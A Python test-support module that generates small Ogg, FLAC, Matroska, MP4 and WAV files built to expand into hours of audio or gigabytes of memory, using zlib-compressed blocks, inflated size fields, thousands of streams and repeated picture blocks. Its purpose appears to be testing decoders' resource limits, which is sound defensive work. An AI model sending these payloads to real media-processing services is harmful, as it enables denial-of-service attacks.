"""Small files that are hours of sound, or gigabytes of memory, to whoever unpacks them without a limit."""

import struct
import zlib
from functools import cache

from support.attacks.parts import box, chunk, element, flac_frame, full_box, ogg_page

_BYTES = 409_000  # about the size of the file that was measured
_OPUS_HEAD = b"OpusHead\1\1\0\0" + struct.pack("<IHB", 48_000, 0, 0)
_OPUS_TAGS = b"OpusTags" + struct.pack("<II", 0, 0)
_OPUS_SILENCE = b"\x1b\x02"  # SILK, two frames of 60 ms, neither sent
_FLAC_HEAD = b"fLaC\x80\0\0\x22" + struct.pack(">HH", 65_535, 65_535) + bytes(6)
_FLAC_SAMPLES = 65_535  # a frame


@cache
def ogg_opus() -> bytes:
    """Half an hour of silence for every 32 KB: packets of two bytes, which are 120 ms each."""
    pages = [
        ogg_page([_OPUS_HEAD], granule=0, number=0, first=True),
        ogg_page([_OPUS_TAGS], granule=0, number=1),
    ]
    while sum(map(len, pages)) < _BYTES:
        number = len(pages)
        granule = (number - 1) * 255 * 5_760
        pages.append(ogg_page([_OPUS_SILENCE] * 255, granule=granule, number=number))
    return b"".join(pages)


@cache
def flac(*, sample_rate: int = 8_000) -> bytes:
    """Silence at `sample_rate` Hz, 65,535 samples to a dozen bytes."""
    packed = sample_rate << 44 | 15 << 36
    head = _FLAC_HEAD + packed.to_bytes(8, "big") + bytes(16)
    frames = b"".join(flac_frame(n, samples=_FLAC_SAMPLES) for n in range(_BYTES // 14))
    return head + frames


def ogg_flac() -> bytes:
    """The same, in Ogg."""
    head = flac()[:42]
    mapping = b"\x7fFLAC\1\0\0\1" + head[:4] + b"\0" + head[5:]
    comment = b"\x84\0\0\x08" + struct.pack("<II", 0, 0)
    pages = [
        ogg_page([mapping], granule=0, number=0, first=True),
        ogg_page([comment], granule=0, number=1),
    ]
    for number in range(2, 130):
        frames = [flac_frame((number - 2) * 255 + n, samples=_FLAC_SAMPLES) for n in range(255)]
        pages.append(ogg_page(frames, granule=(number - 1) * 255 * _FLAC_SAMPLES, number=number))
    return b"".join(pages)


def matroska_opus_laced() -> bytes:
    """256 packets in each block, and two bytes in each packet."""
    audio = element(0xE1, element(0xB5, struct.pack(">d", 48_000.0)), element(0x9F, b"\1"))
    track = element(
        0xAE,
        element(0xD7, b"\1"),
        element(0x83, b"\2"),
        element(0x86, b"A_OPUS"),
        element(0x63A2, _OPUS_HEAD),
        audio,
    )
    laced = b"\x81\0\0\x84\xff" + _OPUS_SILENCE * 256  # all of one size
    clusters = [
        element(0x1F43B675, element(0xE7, (n * 30_720).to_bytes(8, "big")), element(0xA3, laced))
        for n in range(700)
    ]
    return element(0x1A45DFA3, element(0x4282, b"webm")) + element(
        0x18538067, element(0x1654AE6B, track), *clusters, unknown_size=True
    )


def matroska_compressed() -> bytes:
    """A block of an eighth of a megabyte that is an eighth of a gigabyte of zeros."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(128)) + packer.flush()
    audio = element(
        0xE1, element(0xB5, struct.pack(">d", 8_000.0)), element(0x9F, b"\1"), element(0x6264, b"\x10")
    )
    unpack = element(0x6D80, element(0x6240, element(0x5034, element(0x4254, b"\0"))))
    track = element(
        0xAE, element(0xD7, b"\1"), element(0x83, b"\2"), element(0x86, b"A_PCM/INT/LIT"), unpack, audio
    )
    cluster = element(0x1F43B675, element(0xE7, b"\0"), element(0xA3, b"\x81\0\0\x80" + packed))
    head = element(0x1A45DFA3, element(0x4282, b"matroska"))
    return head + element(0x18538067, element(0x1654AE6B, track), cluster)


def mp4_compressed_index() -> bytes:
    """A `moov` of 64 KB that says that it is four gigabytes, and is 64 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(64)) + packer.flush()
    claimed = struct.pack(">I", 2**32 - 64)
    return box(b"ftyp", b"qt  \0\0\0\0") + box(
        b"moov", box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", claimed, packed))
    )


def mp4_same_bytes(*, chunks: int = 1_000_000, edits: int = 0) -> bytes:
    """Chunks of one sample, all of them the same 8,000 bytes; with `edits` that play it all again."""
    sound = b"\x10\x11" * 4_000
    brand = box(b"ftyp", b"qt  \0\0\0\0")
    place = len(brand) + 8
    entry = box(b"sowt", bytes(6), struct.pack(">HHHIHHHHI", 1, 0, 0, 0, 1, 16, 0, 0, 8_000 << 16))
    table = box(
        b"stbl",
        full_box(b"stsd", struct.pack(">I", 1), entry),
        full_box(b"stts", struct.pack(">III", 1, 4_000 * chunks % 2**32, 1)),
        full_box(b"stsc", struct.pack(">IIII", 1, 1, 4_000, 1)),
        full_box(b"stsz", struct.pack(">II", 2, 4_000 * chunks % 2**32)),
        full_box(b"stco", struct.pack(">I", chunks), struct.pack(">I", place) * chunks),
    )
    length = struct.pack(">I", min(4_000 * chunks, 2**31 - 1))
    header = full_box(b"mdhd", bytes(8), struct.pack(">I", 8_000), length, bytes(4))
    media = box(
        b"mdia",
        header,
        full_box(b"hdlr", bytes(4), b"soun", bytes(13)),
        box(b"minf", full_box(b"smhd", bytes(4)), table),
    )
    plays = struct.pack(">IiI", min(4_000 * chunks, 2**31 - 1), 0, 1 << 16) * edits
    edit = box(b"edts", full_box(b"elst", struct.pack(">I", edits), plays)) if edits else b""
    movie = full_box(b"mvhd", bytes(8), struct.pack(">I", 8_000), length, bytes(80))
    track = box(b"trak", full_box(b"tkhd", bytes(8), struct.pack(">I", 1), bytes(68), flags=7), edit, media)
    return brand + box(b"mdat", sound) + box(b"moov", movie, track)


def wav_of_tiny_blocks() -> bytes:
    """Blocks of four bytes, which are a sample each: nothing to hear, and a packet's work for every one."""
    form = struct.pack("<HHIIHHHH", 0x11, 1, 4_000, 4_000, 4, 4, 2, 65_535)
    return chunk(b"RIFF", b"WAVE", chunk(b"fmt ", form), chunk(b"data", bytes(_BYTES)))


def ogg_of_many_streams() -> bytes:
    """Thousands of songs that begin at once."""
    return b"".join(
        ogg_page([_OPUS_HEAD], granule=0, number=0, serial=serial, first=True) for serial in range(1, 8_001)
    )


def flac_of_many_pictures() -> bytes:
    """A kilobyte of picture two thousand times, each in a block of its own."""
    picture = (
        struct.pack(">II", 3, 9) + b"image/png" + struct.pack(">IIIIII", 0, 1, 1, 24, 0, 1_000) + bytes(1_000)
    )
    block = b"\x06" + len(picture).to_bytes(3, "big") + picture
    return b"fLaC\0" + flac()[5:42] + block * 2_000
